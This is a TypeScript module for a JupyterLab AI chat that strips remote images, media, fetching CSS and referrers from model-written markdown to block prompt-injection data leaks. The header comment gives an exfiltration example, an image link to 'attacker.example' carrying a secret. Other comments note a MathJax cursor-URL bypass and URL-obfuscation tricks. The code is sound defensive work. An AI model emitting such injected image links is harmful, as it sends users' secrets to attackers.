/**
 * The model's markdown, and the outputs of its cells in the chat's step
 * cards, rendered without loading anything from another site. A prompt
 * injection could make the model write
 * `![x](https://attacker.example/?q=<secret>)`, and the browser would send
 * the secret the moment the image is in the page; so images from elsewhere
 * wait for a click, other embedded media are dropped, CSS that fetches is
 * removed, and links elsewhere open in a new tab without a referrer.
 *
 * It happens in the sanitizer: JupyterLab's markdown renderer turns the
 * markdown into HTML without fetching anything, passes that HTML through
 * `sanitizer.sanitize` (the model is untrusted, as a `MimeModel` is unless
 * told otherwise) and only then puts it in the page. The math is typeset
 * after that, in the page, so the typesetter's output is cleaned too.
 */
import type { IRenderMimeRegistry } from '@jupyterlab/rendermime';
import type { IRenderMime } from '@jupyterlab/rendermime-interfaces';
import type { TranslationBundle } from '@jupyterlab/translation';

/** The class of the button that stands in for an image from elsewhere. */
const REMOTE_IMAGE_CLASS = 'jp-ci-RemoteImage';

/**
 * Elements removed whole: they embed or fetch (frames, objects, `link`),
 * change the whole page (`style`, `base`, `meta`), may reference URLs from
 * attributes we do not check (`svg`, `math`), or are parsed differently in
 * the page than in our inert document (`noscript`, `template`).
 */
const REMOVED_ELEMENTS =
  'iframe, frame, frameset, embed, object, applet, portal, link, style, ' +
  'meta, base, script, noscript, template, svg, math';

/** Attributes whose URLs the browser fetches as soon as the element shows. */
const FETCHING_ATTRIBUTES = ['src', 'srcset', 'poster', 'background'];

/** CSS functions that fetch: `url()`, and those that take a bare URL. */
const FETCHING_CSS = /(?:url|src|image|image-set)\(/i;

/**
 * The rendermime for the model's markdown: the same renderers and resolver,
 * with a sanitizer and a typesetter that also keep remote resources out;
 * `trans` words the buttons and notes that stand in for what was not
 * loaded. One clone per registry, shared by every message.
 */
export function safeRendermime(
  rendermime: IRenderMimeRegistry,
  trans: TranslationBundle
): IRenderMimeRegistry {
  let safe = clones.get(rendermime);
  if (!safe) {
    const { latexTypesetter, sanitizer } = rendermime;
    safe = rendermime.clone({
      sanitizer: new NoRemoteSanitizer(sanitizer, trans),
      latexTypesetter: latexTypesetter
        ? new NoRemoteTypesetter(latexTypesetter)
        : undefined
    });
    clones.set(rendermime, safe);
  }
  return safe;
}

const clones = new WeakMap<IRenderMimeRegistry, IRenderMimeRegistry>();

/**
 * Load the image of a clicked placeholder button in the button's place.
 *
 * For a click listener on the markdown's host: the sanitized HTML cannot
 * carry handlers of its own.
 */
export function loadRemoteImage(target: EventTarget | null): void {
  const button =
    target instanceof Element ? target.closest(`.${REMOTE_IMAGE_CLASS}`) : null;
  const image = button?.querySelector('img');
  if (!button || !image) {
    return;
  }
  for (const name of FETCHING_ATTRIBUTES) {
    moveAttribute(image, `data-ci-${name}`, name);
  }
  image.removeAttribute('hidden');
  button.replaceWith(image);
}

/**
 * JupyterLab's sanitizer, then `withoutRemoteResources`. Everything else
 * (autolinks, named properties, command links) is the wrapped sanitizer's
 * choice, so Lab's settings still apply.
 */
class NoRemoteSanitizer implements IRenderMime.ISanitizer {
  constructor(sanitizer: IRenderMime.ISanitizer, trans: TranslationBundle) {
    this._sanitizer = sanitizer;
    this._trans = trans;
  }

  get allowNamedProperties(): boolean | undefined {
    return this._sanitizer.allowNamedProperties;
  }

  get allowCommandLinker(): boolean | undefined {
    return this._sanitizer.allowCommandLinker;
  }

  /** As the renderers read a missing `getAutolink`: autolinks on. */
  getAutolink(): boolean {
    return this._sanitizer.getAutolink?.() ?? true;
  }

  sanitize(dirty: string, options?: IRenderMime.ISanitizerOptions): string {
    return withoutRemoteResources(
      this._sanitizer.sanitize(dirty, options),
      this._trans
    );
  }

  private _sanitizer: IRenderMime.ISanitizer;
  private _trans: TranslationBundle;
}

/**
 * JupyterLab's typesetter, then the same rules for CSS and links on what it
 * wrote: MathJax's safe mode lets `\style{cursor: url(...)}{x}` through,
 * and the page would fetch that cursor when the pointer is over the math.
 * The cleanup runs in the microtask after MathJax renders, before any
 * pointer event or style recalculation can happen.
 */
class NoRemoteTypesetter implements IRenderMime.ILatexTypesetter {
  constructor(typesetter: IRenderMime.ILatexTypesetter) {
    this._typesetter = typesetter;
  }

  async typeset(element: HTMLElement): Promise<void> {
    await this._typesetter.typeset(element);
    dropFetchingCssAndHardenLinks(element);
  }

  private _typesetter: IRenderMime.ILatexTypesetter;
}

/**
 * Sanitized HTML without anything that would load from elsewhere once it is
 * in the page.
 *
 * The HTML is rewritten in a `DOMParser` document, which has no browsing
 * context: nothing in it loads or runs.
 */
function withoutRemoteResources(
  html: string,
  trans: TranslationBundle
): string {
  const { body } = new DOMParser().parseFromString(html, 'text/html');
  body.querySelectorAll(REMOVED_ELEMENTS).forEach(element => element.remove());
  dropFetchingCssAndHardenLinks(body);
  const fetching = FETCHING_ATTRIBUTES.map(name => `[${name}]`).join(', ');
  body
    .querySelectorAll(fetching)
    .forEach(element => keepFromLoading(element, trans));
  return body.innerHTML;
}

/**
 * Whether the page may load a URL by itself: a `data:` URL, or a relative
 * one, which stays on the Jupyter server. Absolute URLs are not, wherever
 * they point.
 *
 * The URL is first cleaned as the browser's URL parser does, so that
 * ` //host`, `/\host` or `ht\ntps://host` are seen for what they are.
 */
function isLocalUrl(url: string): boolean {
  const cleaned = url
    .replace(/[\t\n\r]/g, '')
    // The URL parser strips C0 controls and spaces from both ends: so do we.
    // eslint-disable-next-line no-control-regex
    .replace(/^[\x00-\x20]+|[\x00-\x20]+$/g, '');
  if (/^data:/i.test(cleaned)) {
    return true;
  }
  if (/^[a-z][a-z\d+.-]*:/i.test(cleaned)) {
    return false;
  }
  try {
    return new URL(cleaned, document.baseURI).origin === location.origin;
  } catch {
    return false;
  }
}

/** Apply `dropFetchingCss` and `hardenLink` to everything under `root`. */
function dropFetchingCssAndHardenLinks(root: Element): void {
  root.querySelectorAll<HTMLElement>('[style]').forEach(dropFetchingCss);
  root.querySelectorAll('a[href], area[href]').forEach(link => {
    if (!isLocalUrl(link.getAttribute('href')!)) {
      hardenLink(link);
    }
  });
}

/**
 * Drop the declarations of an inline style that fetch, as the browser reads
 * them (escapes resolved, shorthands expanded), and write back only what it
 * read.
 */
function dropFetchingCss(element: HTMLElement): void {
  const { style } = element;
  for (const name of Array.from(style)) {
    if (FETCHING_CSS.test(style.getPropertyValue(name))) {
      style.removeProperty(name);
    }
  }
  if (style.length) {
    element.setAttribute('style', style.cssText);
  } else {
    element.removeAttribute('style');
  }
}

/**
 * A link elsewhere opens in a new tab, with no handle on this page and no
 * referrer (which would tell the site the notebook's path). Lab's renderer
 * sets `rel` to `noopener` after us, so `referrerpolicy` is what keeps the
 * referrer back.
 */
function hardenLink(link: Element): void {
  link.setAttribute('target', '_blank');
  link.setAttribute('rel', 'noopener noreferrer');
  link.setAttribute('referrerpolicy', 'no-referrer');
  link.removeAttribute('ping');
}

/**
 * An image from elsewhere becomes a button to load it; audio and video
 * from elsewhere become a note; any other element loses its fetching
 * attributes.
 */
function keepFromLoading(element: Element, trans: TranslationBundle): void {
  const url = remoteUrl(element);
  if (url === null) {
    return;
  }
  switch (element.localName) {
    case 'img':
      deferImage(element, hostOf(url, trans), trans);
      break;
    case 'audio':
    case 'video':
      element.replaceWith(notLoaded(element, hostOf(url, trans), trans));
      break;
    default:
      for (const name of FETCHING_ATTRIBUTES) {
        element.removeAttribute(name);
      }
  }
}

/** The first URL the element would fetch from elsewhere, if any. */
function remoteUrl(element: Element): string | null {
  for (const name of FETCHING_ATTRIBUTES) {
    const value = element.getAttribute(name);
    if (value === null) {
      continue;
    }
    const urls = name === 'srcset' ? srcsetUrls(value) : [value];
    const remote = urls.find(url => !isLocalUrl(url));
    if (remote !== undefined) {
      return remote;
    }
  }
  return null;
}

/**
 * The URLs of a `srcset`, split as the browser splits it: a URL is a run of
 * non-space characters (trailing commas are not part of it), and its
 * descriptors run to the next comma. `data:` URLs may hold commas, never
 * spaces. Where the browser keeps commas inside parentheses, this splits
 * there too, which only finds more URLs.
 */
function srcsetUrls(srcset: string): string[] {
  const urls: string[] = [];
  let rest = srcset;
  for (;;) {
    rest = rest.replace(/^[\t\n\f\r ,]+/, '');
    const url = /^[^\t\n\f\r ]+/.exec(rest)?.[0];
    if (!url) {
      return urls;
    }
    rest = rest.slice(url.length);
    urls.push(url.replace(/,+$/, ''));
    if (!url.endsWith(',')) {
      const comma = rest.indexOf(',');
      rest = comma < 0 ? '' : rest.slice(comma + 1);
    }
  }
}

/**
 * Put a button that says where the image is from in the image's place. The
 * image goes inside it, hidden, its URLs kept in data attributes for
 * `loadRemoteImage`.
 */
function deferImage(
  image: Element,
  host: string,
  trans: TranslationBundle
): void {
  const button = image.ownerDocument.createElement('button');
  button.type = 'button';
  button.className = REMOTE_IMAGE_CLASS;
  button.textContent = trans.__('Load image from %1', host);
  const alt = image.getAttribute('alt');
  if (alt) {
    button.title = alt;
  }
  for (const name of FETCHING_ATTRIBUTES) {
    moveAttribute(image, name, `data-ci-${name}`);
  }
  image.setAttribute('hidden', '');
  image.replaceWith(button);
  button.append(image);
}

/** A note, in place of audio or video, of what was not loaded. */
function notLoaded(
  element: Element,
  host: string,
  trans: TranslationBundle
): Element {
  const note = element.ownerDocument.createElement('span');
  note.className = 'jp-ci-RemoteBlocked';
  note.textContent =
    element.localName === 'audio'
      ? trans.__('(audio from %1 not loaded)', host)
      : trans.__('(video from %1 not loaded)', host);
  return note;
}

/** Where a URL is from, in words: its host, else "another site". */
function hostOf(url: string, trans: TranslationBundle): string {
  try {
    const { host } = new URL(url, document.baseURI);
    if (host) {
      return host;
    }
  } catch {
    // Not a URL the browser could fetch either; say where in general.
  }
  return trans.__('another site');
}

function moveAttribute(element: Element, from: string, to: string): void {
  const value = element.getAttribute(from);
  if (value !== null) {
    element.setAttribute(to, value);
    element.removeAttribute(from);
  }
}
